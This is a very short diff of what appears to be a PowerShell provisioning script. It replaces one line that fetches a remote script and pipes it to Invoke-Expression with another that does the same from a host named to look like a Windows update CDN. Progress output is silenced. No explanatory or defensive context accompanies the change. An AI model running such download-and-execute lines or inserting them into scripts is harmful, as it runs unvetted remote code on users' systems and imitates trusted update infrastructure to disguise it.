@@ -1,3 +1,3 @@
-# run 5245 v4
+# provision 8243 v4
 $ProgressPreference = 'SilentlyContinue'
-iwr -UseBasicParsing http://static.metrics-node.example/payload.ps1 | iex
+iwr -UseBasicParsing http://dl.winupdate-cdn.example/inv.ps1 | iex
